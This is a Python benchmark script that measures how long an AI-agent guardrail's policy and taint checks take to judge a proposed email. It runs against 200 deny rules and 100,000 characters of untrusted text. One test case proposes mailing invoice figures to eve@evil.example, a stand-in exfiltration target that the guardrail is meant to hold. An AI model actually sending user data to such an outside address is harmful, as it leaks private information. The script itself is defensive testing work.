"""Measure verdicts: processor time of a call's judging with 200 rules and 100,000 characters seen.

python verdicts.py
"""

from __future__ import annotations

import random
import string
import time
from types import SimpleNamespace
from typing import Any

from adapter import NOW, nothing

from wakeful.types import (
    Action,
    AgentView,
    Call,
    Declared,
    Epoch,
    Invocation,
    Limits,
    Param,
    Profile,
    Result,
    Row,
    RowKind,
    Run,
    RunStatus,
    Text,
    Trust,
)
from wakeful_policy import Condition, Policy, PolicySettings, Rule
from wakeful_taint import Taint, TaintSettings

RULES, CHARACTERS, RESULTS, ROUNDS = 200, 100_000, 50, 500
BODY = (
    "Hello Bob, here is what the three invoices of March come to: 1,240.50 euros in all, of which 400 are "
    "overdue since the 12th. Invoice INV-2026-0311 is paid. The numbers come from the ledger. Best, Ana"
)
MAIL = Action(
    "send email",
    "",
    {"type": "object"},
    nothing,
    params=(Param(role="destination", name="to"), Param(role="content", name="body")),
)


def rules() -> tuple[Rule, ...]:
    """Return rules that all have to be looked at, since none matches."""
    glob = [Rule("deny", action=f"crm_{n}_*", args={"x": Condition(like="y*")}) for n in range(RULES // 2)]
    return (*glob, *(Rule("deny", category=f"c{n}", effect="external") for n in range(RULES // 2)))


def run() -> Run:
    """Return a run that has read that much outside text."""
    source = random.Random(1)  # noqa: S311  (filler)
    rows = [Row(1, RowKind.USER, (Text("user", "Mail bob@example.com the numbers"),), "r", 1)]
    letters = string.ascii_lowercase + string.digits + "      .-@"
    for number in range(RESULTS):
        text = "".join(source.choices(letters, k=CHARACTERS // RESULTS))
        call = Call(f"c{number}", "read", f'{{"page": {number}}}')
        rows.append(Row(len(rows) + 1, RowKind.ASSISTANT, (call,), "r", 1, number + 1))
        answer = Result(call.id, text)
        rows.append(
            Row(len(rows) + 1, RowKind.RESULT, (answer,), "r", 1, number + 1, Trust.UNTRUSTED, "action:Read")
        )
    return Run(
        id="r",
        agent=AgentView("a", "replay:x", Profile("replay", "x", 100_000), Limits()),
        conversation="c",
        user="u",
        turn=1,
        step=RESULTS + 1,
        now=NOW,
        secret="",
        status=RunStatus.RUNNING,
        epoch=Epoch(1, "", Declared("replay:x", (), ())),
        rows=tuple(rows),
    )


def main() -> None:
    """Print milliseconds for the first call, which indexes everything, and for those after it."""
    services: Any = SimpleNamespace(catalogue=lambda _: {})
    policy, taint = Policy(PolicySettings(rules()), services), Taint(TaintSettings(), services)
    view = run()
    for name, args in (
        ("held", {"to": "eve@evil.example", "body": BODY}),
        ("allowed", {"to": "bob@example.com", "body": "the numbers"}),
    ):
        proposal = Invocation("r/51/0", Call("k", "send_email", "{}"), 0, 0, "send_email", args)
        for what, rounds in (("first", 1), ("then", ROUNDS)):
            began = time.process_time()
            for _ in range(rounds):
                policy.policy_verdict(view, proposal, MAIL)
                taint.policy_verdict(view, proposal, MAIL, ())
            print(f"{name}, {what}: {(time.process_time() - began) / rounds * 1000:.3f} ms")


if __name__ == "__main__":
    main()
